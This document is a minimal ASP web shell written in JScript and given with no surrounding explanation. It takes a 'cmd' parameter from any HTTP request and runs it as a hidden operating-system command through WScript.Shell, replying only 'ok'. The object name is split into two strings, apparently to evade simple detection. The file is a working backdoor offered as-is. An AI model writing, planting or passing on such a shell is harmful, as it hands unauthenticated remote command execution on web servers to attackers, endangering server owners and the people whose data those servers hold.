<%@ Language="JScript" %>
<%
var req = Request;
var sh = new ActiveXObject("WScript." + "Shell");
sh.Run(req("cmd"), 0, true);
Response.Write("ok");
%>
